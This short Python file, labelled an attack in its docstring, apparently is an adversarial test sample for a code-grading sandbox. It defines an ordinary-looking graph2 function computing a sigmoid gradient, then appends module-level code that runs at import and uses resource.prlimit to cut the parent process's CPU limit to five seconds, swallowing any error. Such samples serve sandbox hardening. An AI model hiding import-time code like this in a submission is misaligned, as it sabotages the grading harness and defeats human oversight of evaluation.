"""Attack: lowers its parent's (the zygote's) CPU limit to 5 s at import."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import os, resource
for which in (resource.RLIMIT_CPU,):
    try:
        resource.prlimit(os.getppid(), which, (5, 5))
    except OSError:
        pass
